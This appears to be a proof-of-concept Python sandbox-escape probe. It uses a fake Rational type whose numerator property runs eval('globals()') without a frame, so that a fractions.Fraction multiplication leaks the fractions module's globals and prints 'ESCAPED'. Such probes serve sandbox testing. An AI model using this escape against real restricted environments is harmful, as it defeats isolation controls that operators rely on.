# technique: Fraction reads the numerator of the other operand: a property without a frame
# goal: globals
# source: own analysis: the default namespace of globals, below a trusted frame
import fractions
import functools
import numbers
kept = []
peek = functools.partial(dict.fromkeys, map(kept.append, map(eval, ['globals()'])))


class Number:
    numerator = property(peek)
    denominator = 1


numbers.Rational.register(Number)
try:
    Number() * fractions.Fraction(1, 2)
except TypeError:
    pass
if kept[0]['__name__'] == 'fractions':
    print('ESCAPED globals of fractions')
